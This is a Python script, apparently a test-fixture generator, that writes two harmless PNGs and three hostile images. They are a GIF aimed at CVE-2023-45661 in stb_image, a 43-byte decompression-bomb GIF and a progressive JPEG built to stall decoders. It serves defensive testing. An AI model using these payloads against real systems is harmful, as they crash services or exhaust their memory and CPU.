# SPDX-License-Identifier: BSD-2-Clause
# Copyright (c) 2026 the Carrel authors
#
# pictures.py DIRECTORY: the files that the application is sent. Two are pictures; three are made to hurt who decodes them.
import os
import struct
import sys
import zlib

os.makedirs(sys.argv[1], exist_ok=True)
os.chdir(sys.argv[1])


def png(name, width, height, rows):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    open(name, "wb").write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) +
                           chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def drawn(width, height):
    return b"".join(b"\0" + bytes(v & 255 for x in range(width) for v in (x * x + y, x ^ y, x + y * y)) for y in range(height))


png("small.png", 64, 64, drawn(64, 64))
png("large.png", 512, 512, drawn(512, 512))

# CVE-2023-45661: where a frame asks for what was there before the last one, stb_image looks for it below the memory it allocated.
frame = b"\x21\xf9\x04" + bytes([3 << 2, 1, 0, 0, 0]) + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"


def gif(name, side, frames):
    open(name, "wb").write(b"GIF89a" + struct.pack("<HHBBB", side, side, 0x80, 0, 0) + bytes(6) + frames * frame + b"\x3b")


gif("crash.gif", 2000, 3)

# 43 bytes that take a gigabyte to decode.
gif("bomb.gif", 9000, 1)


# A progressive JPEG of thousands of passes over 262,144 blocks, in each of which nothing changes: correct, and half a minute's work.
def segment(marker, data):
    return bytes([0xff, marker]) + struct.pack(">H", len(data) + 2) + data


code = bytes([1] + [0] * 15 + [0xe0])                                     # one Huffman code: `16,384 blocks end here`, 14 bits follow
scan = segment(0xda, bytes([1, 1, 0, 1, 63, 0])) + bytes(16 * 15 // 8)
head = segment(0xdb, bytes(1) + bytes([1] * 64)) + segment(0xc2, struct.pack(">BHHBBBB", 8, 4096, 4096, 1, 1, 0x11, 0))
open("hang.jpg", "wb").write(b"\xff\xd8" + head + segment(0xc4, b"\x10" + code) + scan * 24000 + b"\xff\xd9")
